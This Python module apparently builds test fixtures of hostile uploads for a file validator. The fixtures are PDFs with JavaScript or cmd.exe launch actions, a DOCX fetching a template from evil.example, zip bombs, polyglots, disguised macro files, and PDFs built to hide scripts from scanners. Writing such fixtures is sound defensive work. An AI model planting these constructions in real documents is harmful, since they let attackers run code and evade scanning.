"""Documents as people send them, and as nobody should: made here, byte by byte where need be."""

import hashlib
import io
import random
import zipfile
import zlib

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
TEMPLATE = (
    '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/x.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def pdf(change=None, **saved):
    """A PDF of one page."""
    book = pikepdf.new()
    book.add_blank_page()
    if change is not None:
        change(book)
    sink = io.BytesIO()
    book.save(sink, **saved)
    return sink.getvalue()


def _script(book):
    book.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(book):
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    book.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(A=act)])


def _form(book):
    book.Root.AcroForm = pikepdf.Dictionary(XFA=book.make_stream(b"<xdp/>"))


def heavy(megabytes):
    """Puts so many megabytes that do not pack into a PDF."""

    def put(book):
        noise = random.Random(1).randbytes(megabytes * 2**20)
        book.Root.Noise = book.make_stream(noise)

    return put


def digest(raw):
    return hashlib.sha256(raw).hexdigest()


def scripted_pdf():
    return pdf(_script)


def packed_script_pdf():
    """The script lies in a packed stream of objects, not to be seen in the bytes."""
    raw = pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in raw
    return raw


def launching_pdf():
    return pdf(_launch)


def form_pdf():
    return pdf(_form)


def locked_pdf(password="secret"):
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def hiding_pdf():
    """Objects behind a hundred megabytes of blanks: a reader that gives up there sees no script."""
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(b" " * 2**20) for _ in range(100)) + squeeze.flush()
    return _by_hand(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream"
        % (len(packed), packed),
    )


def _by_hand(*objects):
    """These as objects 1 to 4; object 5 is the first of the stream in 4."""
    raw, places = b"%PDF-1.5\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(raw))
        raw += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    at = len(raw)
    rows = [bytes(6), *(b"\1" + place.to_bytes(4) + b"\0" for place in places)]
    table = b"".join([*rows, b"\2" + (4).to_bytes(4) + b"\0", b"\1" + at.to_bytes(4) + b"\0"])
    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at
    return raw + b"6 0 obj\n%b\nstream\n%b" % (head, table) + end


def docx(text="名册"):
    sink, paper = io.BytesIO(), Document()
    paper.add_paragraph(text)
    paper.save(sink)
    return sink.getvalue()


def xlsx():
    sink, book = io.BytesIO(), Workbook()
    book.active.append(["被保险人", "人数"])
    book.save(sink)
    return sink.getvalue()


def changed(raw, *, put=(), without=(), told=()):
    """A document with parts put in or left out, and words of its list of types replaced."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(sink, "w", 8) as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "[Content_Types].xml":
                for was, now in told:
                    part = part.replace(was.encode(), now.encode())
            if name not in without and name not in dict(put):
                new.writestr(name, part)
        for name, part in put:
            new.writestr(name, part)
    return sink.getvalue()


def macro_docx():
    return changed(docx(), put=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])


def renamed_macro_docx():
    """A DOCM that is called DOCX."""
    now = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return changed(docx(), told=[(f"{WORD}.main+xml", now)])


def template_docx():
    """It fetches its template, and with it whatever runs there, from elsewhere."""
    put = [("word/_rels/settings.xml.rels", f"{RELATIONS}{TEMPLATE}</Relationships>")]
    return changed(docx(), put=put)


def docx_and_pdf():
    """Readers of PDF look for its mark in the first kilobyte, wherever it stands there."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(sink, "w") as new:
        new.writestr("0", pdf())
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return sink.getvalue()


def entity_docx():
    types = '<!DOCTYPE t [<!ENTITY a "b">]><Types>&a;</Types>'
    return changed(docx(), put=[("[Content_Types].xml", types)])


def bomb_docx():
    """A document of under a megabyte that unpacks to 400."""
    sink = io.BytesIO(docx())
    packed = zipfile.ZipFile(sink, "a", zipfile.ZIP_DEFLATED, compresslevel=9)
    with packed, packed.open("word/media/image1.bmp", "w") as part:
        for _ in range(100):
            part.write(b"\0" * (4 * 1024**2))
    return sink.getvalue()


def archive():
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as packed:
        packed.writestr("run.exe", b"MZ")
    return sink.getvalue()


def picture(form="JPEG", side=40):
    sink = io.BytesIO()
    Image.new("RGB", (side, side), "navy").save(sink, form)
    return sink.getvalue()


def large_picture():
    """A photo of 20 MB."""
    return picture() + b"\0" * (20 * 1024**2)


HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(400)
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
BAD = {
    "a renamed program": lambda: PROGRAM,
    "SVG with a script": lambda: SVG,
    "HTML": lambda: HTML,
    "HTML behind the mark of PDF": lambda: b"%PDF-1.7\n" + HTML,
    "PDF cut off": lambda: pdf()[:200],
    "PDF with a script": scripted_pdf,
    "PDF with a packed script": packed_script_pdf,
    "PDF that starts a program": launching_pdf,
    "PDF with an XFA form": form_pdf,
    "PDF with a password": locked_pdf,
    "PDF that may not be printed": lambda: locked_pdf(""),
    "PDF that hides its objects": hiding_pdf,
    "PDF and archive": lambda: pdf() + archive(),
    "photo and archive": lambda: picture() + archive(),
    "DOCX and PDF": docx_and_pdf,
    "archive": archive,
    "old Word": lambda: OLD_WORD,
    "DOCX with macros": macro_docx,
    "DOCM as DOCX": renamed_macro_docx,
    "DOCX with a foreign template": template_docx,
    "DOCX with entities": entity_docx,
    "DOCX that is a bomb": bomb_docx,
    "a photo of 20 MB": large_picture,
    "nothing": lambda: b"",
}  # fmt: skip
